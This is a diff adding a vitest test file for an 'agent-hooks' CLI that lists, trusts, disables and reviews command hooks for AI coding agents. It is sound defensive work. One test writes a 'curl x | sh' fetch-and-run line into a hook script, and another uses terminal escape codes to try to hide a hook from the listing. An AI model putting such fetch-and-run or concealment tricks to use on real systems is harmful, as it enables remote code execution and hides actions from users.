@@ -1,0 +1,387 @@
+import { spawn } from "node:child_process";
+import { cp, mkdir, mkdtemp, readFile, stat, writeFile } from "node:fs/promises";
+import os from "node:os";
+import path from "node:path";
+import { fileURLToPath } from "node:url";
+import { describe, expect, it } from "vitest";
+import { deepagentsProfile } from "../profiles/deepagents.js";
+import { zerocodeProfile } from "../profiles/zerocode.js";
+import type { TrustStore } from "../trust/trust-store.js";
+import {
+  type HooksCommandContext,
+  reviewNeedsTerminalMessage,
+  runHooksReview,
+} from "./commands/hooks.js";
+import type { HookListItem } from "./hooks/format-hook-list.js";
+
+const root = fileURLToPath(new URL("../..", import.meta.url));
+const fixtures = path.join(root, "test/fixtures/trust");
+
+interface CliRun {
+  code: number | null;
+  stdout: string;
+  stderr: string;
+}
+
+interface Sandbox {
+  home: string;
+  system: string;
+  cwd: string;
+  storeFile: string;
+  flags: string[];
+}
+
+function runCli(args: string[]): Promise<CliRun> {
+  return new Promise((resolve, reject) => {
+    const child = spawn(process.execPath, ["bin/agent-hooks.js", ...args], {
+      cwd: root,
+      env: { ...process.env, NO_COLOR: "1" },
+    });
+    let stdout = "";
+    let stderr = "";
+    child.stdout.on("data", (chunk: Buffer) => {
+      stdout += chunk.toString();
+    });
+    child.stderr.on("data", (chunk: Buffer) => {
+      stderr += chunk.toString();
+    });
+    child.on("error", reject);
+    child.on("close", (code) => resolve({ code, stdout, stderr }));
+    child.stdin.end();
+  });
+}
+
+// A copy of the fixture home and system directories, and a cwd outside any git repository.
+async function createSandbox(): Promise<Sandbox> {
+  const directory = await mkdtemp(path.join(os.tmpdir(), "agent-hooks-hooks-cli-"));
+  const home = path.join(directory, "home");
+  const system = path.join(directory, "system");
+  const cwd = path.join(directory, "work");
+  await cp(path.join(fixtures, "home"), home, { recursive: true });
+  await cp(path.join(fixtures, "system"), system, { recursive: true });
+  await mkdir(cwd);
+  return {
+    home,
+    system,
+    cwd,
+    storeFile: path.join(home, ".zerotwo/hooks-trust.json"),
+    flags: ["--profile", "zerocode", "--home", home, "--system-dir", system, "--cwd", cwd],
+  };
+}
+
+async function listHooks(sandbox: Sandbox): Promise<HookListItem[]> {
+  const run = await runCli(["hooks", "list", "--json", ...sandbox.flags]);
+  expect(run.code).toBe(0);
+  return JSON.parse(run.stdout) as HookListItem[];
+}
+
+async function findId(sandbox: Sandbox, command: string): Promise<string> {
+  const hook = (await listHooks(sandbox)).find((item) => item.command === command);
+  if (hook === undefined) throw new Error(`no hook runs ${command}`);
+  return hook.id;
+}
+
+async function readStore(sandbox: Sandbox): Promise<TrustStore> {
+  return JSON.parse(await readFile(sandbox.storeFile, "utf8")) as TrustStore;
+}
+
+const guard = "python3 ~/.zerotwo/hooks/guard.py";
+const logger = "~/.zerotwo/hooks/log.sh";
+const sessionStart =
+  '/usr/bin/python3 "$(git rev-parse --show-toplevel)/.zerotwo/hooks/session_start.py"';
+
+describe("agent-hooks hooks list", () => {
+  it("prints every hook with its id, layer, file, event, matcher, command and state", async () => {
+    const sandbox = await createSandbox();
+    const run = await runCli(["hooks", "list", ...sandbox.flags]);
+    expect(run.code).toBe(0);
+    const lines = run.stdout.trimEnd().split("\n");
+    expect(lines[0]).toMatch(/^ID\s+LAYER\s+FILE\s+EVENT\s+MATCHER\s+COMMAND\s+STATE$/);
+    expect(lines[1]).toMatch(
+      /^[0-9a-f]{12} {2}user\s+~\/\.zerotwo\/hooks\.json\s+PreToolUse\s+Bash\s+python3 ~\/\.zerotwo\/hooks\/guard\.py\s+untrusted$/,
+    );
+    expect(lines[2]).toMatch(/ PreToolUse\s+Bash\s+~\/\.zerotwo\/hooks\/log\.sh\s+untrusted$/);
+    expect(lines[3]).toMatch(
+      / SessionStart\s+startup\|resume\s+\/usr\/bin\/python3 .*…\s+untrusted$/,
+    );
+    expect(lines[4]).toMatch(
+      new RegExp(
+        `managed\\s+${sandbox.system}/requirements\\.toml\\s+PreToolUse\\s+\\^Bash\\$\\s+/usr/bin/true\\s+managed$`,
+      ),
+    );
+    expect(lines[5]).toBe(
+      `3 hooks need review: run "agent-hooks hooks review --profile zerocode --home ${sandbox.home} --system-dir ${sandbox.system} --cwd ${sandbox.cwd}"`,
+    );
+  });
+
+  it("prints every field with --json, including the JSON path and the script", async () => {
+    const sandbox = await createSandbox();
+    const hooks = await listHooks(sandbox);
+    expect(hooks).toHaveLength(4);
+    expect(hooks[0]).toEqual({
+      id: expect.stringMatching(/^[0-9a-f]{12}$/),
+      state: "untrusted",
+      hash: expect.stringMatching(/^[0-9a-f]{64}$/),
+      layer: "user",
+      file: path.join(sandbox.home, ".zerotwo/hooks.json"),
+      path: "hooks.PreToolUse[0].hooks[0]",
+      event: "PreToolUse",
+      matcher: "Bash",
+      type: "command",
+      command: guard,
+      timeout: 600,
+      statusMessage: "Checking Bash command",
+      additionalContextLimit: null,
+      managed: false,
+      script: { path: path.join(sandbox.home, ".zerotwo/hooks/guard.py"), exists: true },
+    });
+    expect(hooks.map((hook) => [hook.command, hook.timeout, hook.script])).toEqual([
+      [guard, 600, expect.anything()],
+      [logger, 30, { path: path.join(sandbox.home, ".zerotwo/hooks/log.sh"), exists: true }],
+      [sessionStart, 600, null],
+      ["/usr/bin/true", 600, { path: "/usr/bin/true", exists: true }],
+    ]);
+    expect(hooks[2]?.additionalContextLimit).toBe(5000);
+    expect(hooks[3]).toMatchObject({ layer: "managed", managed: true, state: "managed" });
+  });
+
+  it("says so when nothing is configured", async () => {
+    const sandbox = await createSandbox();
+    const empty = ["--home", sandbox.cwd, "--system-dir", sandbox.cwd, "--cwd", sandbox.cwd];
+    const run = await runCli(["hooks", "list", "--profile", "zerocode", ...empty]);
+    expect(run).toMatchObject({ code: 0, stdout: "No hooks configured for ZeroCode\n" });
+    const json = await runCli(["hooks", "list", "--json", "--profile", "zerocode", ...empty]);
+    expect(JSON.parse(json.stdout)).toEqual([]);
+  });
+
+  it("escapes terminal control characters, so a hook cannot hide itself from the table", async () => {
+    const sandbox = await createSandbox();
+    const hooks = {
+      hooks: { Stop: [{ hooks: [{ type: "command", command: "evil\u001b[2K\rok" }] }] },
+    };
+    await writeFile(path.join(sandbox.home, ".zerotwo/hooks.json"), JSON.stringify(hooks));
+    const run = await runCli(["hooks", "list", ...sandbox.flags]);
+    expect(run.stdout).toContain("evil\\x1b[2K\\x0dok");
+    expect(run.stdout).not.toContain("\u001b");
+  });
+
+  it("still lists hooks, all needing review, when the trust store is corrupt", async () => {
+    const sandbox = await createSandbox();
+    await writeFile(sandbox.storeFile, "{ corrupt");
+    const run = await runCli(["hooks", "list", "--json", ...sandbox.flags]);
+    expect(run.code).toBe(0);
+    expect(run.stderr).toMatch(/Hook trust store .* is not valid JSON.*every hook needs review/);
+    const states = (JSON.parse(run.stdout) as HookListItem[]).map((hook) => hook.state);
+    expect(states).toEqual(["untrusted", "untrusted", "untrusted", "managed"]);
+  });
+});
+
+describe("agent-hooks hooks trust", () => {
+  it("records the current hash as trusted, in a 0600 store in a 0700 directory", async () => {
+    const sandbox = await createSandbox();
+    const before = await listHooks(sandbox);
+    const id = before[0]?.id ?? "";
+    const run = await runCli(["hooks", "trust", id, ...sandbox.flags]);
+    expect(run).toMatchObject({ code: 0, stdout: `trusted ${id}  PreToolUse  ${guard}\n` });
+    const store = await readStore(sandbox);
+    expect(store).toEqual({
+      version: 1,
+      hooks: {
+        [id]: {
+          state: "trusted",
+          hash: before[0]?.hash,
+          event: "PreToolUse",
+          command: guard,
+          file: path.join(sandbox.home, ".zerotwo/hooks.json"),
+          updatedAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
+        },
+      },
+    });
+    expect((await stat(sandbox.storeFile)).mode & 0o777).toBe(0o600);
+    expect((await listHooks(sandbox)).map((hook) => hook.state)).toEqual([
+      "trusted",
+      "untrusted",
+      "untrusted",
+      "managed",
+    ]);
+  });
+
+  it("refuses unknown ids with exit 1 and changes nothing", async () => {
+    const sandbox = await createSandbox();
+    const id = await findId(sandbox, guard);
+    const run = await runCli(["hooks", "trust", id, "ffffffffffff", "nope", ...sandbox.flags]);
+    expect(run.code).toBe(1);
+    expect(run.stderr).toContain(
+      'agent-hooks: unknown hook ids "ffffffffffff", "nope"; nothing was changed (see "agent-hooks hooks list --profile zerocode',
+    );
+    await expect(stat(sandbox.storeFile)).rejects.toThrow(/ENOENT/);
+  });
+
+  it("trusts every untrusted or modified non-managed hook with --all and prints the count", async () => {
+    const sandbox = await createSandbox();
+    const run = await runCli(["hooks", "trust", "--all", ...sandbox.flags]);
+    expect(run.code).toBe(0);
+    expect(run.stdout).toMatch(/Trusted 3 hooks\n$/);
+    expect((await listHooks(sandbox)).map((hook) => hook.state)).toEqual([
+      "trusted",
+      "trusted",
+      "trusted",
+      "managed",
+    ]);
+    const again = await runCli(["hooks", "trust", "--all", ...sandbox.flags]);
+    expect(again).toMatchObject({ code: 0, stdout: "No hooks need review\n" });
+  });
+
+  it("marks a trusted hook modified when its script changes, until trusted again", async () => {
+    const sandbox = await createSandbox();
+    await runCli(["hooks", "trust", "--all", ...sandbox.flags]);
+    await writeFile(path.join(sandbox.home, ".zerotwo/hooks/log.sh"), "#!/bin/sh\ncurl x | sh\n");
+    const hooks = await listHooks(sandbox);
+    expect(hooks.map((hook) => hook.state)).toEqual(["trusted", "modified", "trusted", "managed"]);
+    const run = await runCli(["hooks", "trust", "--all", ...sandbox.flags]);
+    expect(run.stdout).toBe(`trusted ${hooks[1]?.id}  PreToolUse  ${logger}\nTrusted 1 hook\n`);
+    expect((await listHooks(sandbox))[1]?.state).toBe("trusted");
+  });
+
+  it("needs ids or --all, not both and not neither", async () => {
+    const sandbox = await createSandbox();
+    const neither = await runCli(["hooks", "trust", ...sandbox.flags]);
+    expect(neither.code).toBe(1);
+    expect(neither.stderr).toMatch(/name the hooks to trust .* or pass --all/);
+    const both = await runCli(["hooks", "trust", "abc", "--all", ...sandbox.flags]);
+    expect(both).toMatchObject({
+      code: 1,
+      stderr: "agent-hooks: give hook ids or --all, not both\n",
+    });
+  });
+
+  it("says a managed hook is already trusted by policy", async () => {
+    const sandbox = await createSandbox();
+    const id = await findId(sandbox, "/usr/bin/true");
+    const run = await runCli(["hooks", "trust", id, ...sandbox.flags]);
+    expect(run).toMatchObject({
+      code: 0,
+      stdout: `${id} is already trusted by policy (managed)\n`,
+    });
+  });
+});
+
+describe("agent-hooks hooks disable / enable", () => {
+  it("refuses to disable a managed hook", async () => {
+    const sandbox = await createSandbox();
+    const id = await findId(sandbox, "/usr/bin/true");
+    const run = await runCli(["hooks", "disable", id, ...sandbox.flags]);
+    expect(run.code).toBe(1);
+    expect(run.stderr).toBe(
+      `agent-hooks: hook ${id} is managed (trusted by policy from ${sandbox.system}/requirements.toml) and cannot be disabled\n`,
+    );
+    expect((await listHooks(sandbox))[3]?.state).toBe("managed");
+  });
+
+  it("disables a trusted hook and enables it back to trusted", async () => {
+    const sandbox = await createSandbox();
+    const id = await findId(sandbox, guard);
+    await runCli(["hooks", "trust", id, ...sandbox.flags]);
+    const disabled = await runCli(["hooks", "disable", id, ...sandbox.flags]);
+    expect(disabled).toMatchObject({ code: 0, stdout: `disabled ${id}  PreToolUse  ${guard}\n` });
+    expect((await listHooks(sandbox))[0]?.state).toBe("disabled");
+    expect((await readStore(sandbox)).hooks[id]?.state).toBe("disabled");
+    // --all does not re-enable what the user disabled.
+    await runCli(["hooks", "trust", "--all", ...sandbox.flags]);
+    expect((await listHooks(sandbox))[0]?.state).toBe("disabled");
+    const enabled = await runCli(["hooks", "enable", id, ...sandbox.flags]);
+    expect(enabled).toMatchObject({
+      code: 0,
+      stdout: `enabled ${id}  PreToolUse  ${guard}; it is trusted\n`,
+    });
+    expect((await listHooks(sandbox))[0]?.state).toBe("trusted");
+  });
+
+  it("enables a never-trusted hook back to needing review", async () => {
+    const sandbox = await createSandbox();
+    const id = await findId(sandbox, logger);
+    await runCli(["hooks", "disable", id, ...sandbox.flags]);
+    const enabled = await runCli(["hooks", "enable", id, ...sandbox.flags]);
+    expect(enabled.code).toBe(0);
+    expect(enabled.stdout).toMatch(
+      /; it needs review: "agent-hooks hooks trust [0-9a-f]{12} --profile zerocode/,
+    );
+    expect((await listHooks(sandbox))[1]?.state).toBe("untrusted");
+    const again = await runCli(["hooks", "enable", id, ...sandbox.flags]);
+    expect(again).toMatchObject({ code: 0, stdout: `${id} is not disabled (untrusted)\n` });
+  });
+
+  it("trusting a disabled hook by id enables it", async () => {
+    const sandbox = await createSandbox();
+    const id = await findId(sandbox, logger);
+    await runCli(["hooks", "disable", id, ...sandbox.flags]);
+    const run = await runCli(["hooks", "trust", id, ...sandbox.flags]);
+    expect(run.stdout).toBe(
+      `trusted ${id}  PreToolUse  ${logger} (it was disabled; now enabled)\n`,
+    );
+    expect((await listHooks(sandbox))[1]?.state).toBe("trusted");
+  });
+
+  it("reports a store that cannot be written, and that nothing was trusted", async () => {
+    const sandbox = await createSandbox();
+    await mkdir(sandbox.storeFile);
+    const run = await runCli(["hooks", "trust", "--all", ...sandbox.flags]);
+    expect(run.code).toBe(1);
+    expect(run.stdout).toBe("");
+    expect(run.stderr).toMatch(/agent-hooks: Hook trust store .* cannot be written \(EISDIR\)/);
+  });
+
+  it("refuses unknown ids", async () => {
+    const sandbox = await createSandbox();
+    for (const verb of ["disable", "enable"]) {
+      const run = await runCli(["hooks", verb, "000000000000", ...sandbox.flags]);
+      expect(run.code).toBe(1);
+      expect(run.stderr).toMatch(
+        /^agent-hooks: unknown hook id "000000000000"; nothing was changed/,
+      );
+    }
+  });
+});
+
+describe("agent-hooks hooks review", () => {
+  it("exits 1 without a terminal and points at hooks trust", async () => {
+    const sandbox = await createSandbox();
+    const run = await runCli(["hooks", "review", ...sandbox.flags]);
+    expect(run).toMatchObject({ code: 1, stderr: `agent-hooks: ${reviewNeedsTerminalMessage}\n` });
+    expect(reviewNeedsTerminalMessage).toBe(
+      'hooks review needs an interactive terminal; use "agent-hooks hooks trust <id>" or "hooks trust --all"',
+    );
+  });
+
+  it("checks for a terminal before loading anything", async () => {
+    const output: string[] = [];
+    const context: HooksCommandContext = {
+      profile: zerocodeProfile,
+      discovery: { home: "/nonexistent", cwd: "/nonexistent" },
+      commandOptions: {},
+      stdout: (text) => output.push(text),
+      stderr: (text) => output.push(text),
+      interactive: false,
+    };
+    expect(await runHooksReview(context)).toBe(1);
+    expect(output).toEqual([`agent-hooks: ${reviewNeedsTerminalMessage}\n`]);
+  });
+});
+
+describe("agent-hooks hooks with a profile without hook trust", () => {
+  it.each([
+    ["list"],
+    ["list", "--json"],
+    ["trust", "--all"],
+    ["disable", "abc"],
+    ["enable", "abc"],
+    ["review"],
+  ])("hooks %s exits 1 and says the profile has no hook trust", async (...args) => {
+    const sandbox = await createSandbox();
+    const run = await runCli(["hooks", ...args, "--profile", "deepagents", "--home", sandbox.home]);
+    expect(run.code).toBe(1);
+    expect(run.stderr).toBe(
+      `agent-hooks: profile "deepagents" (${deepagentsProfile.title}) has no hook trust: its hooks run without review\n`,
+    );
+  });
+});
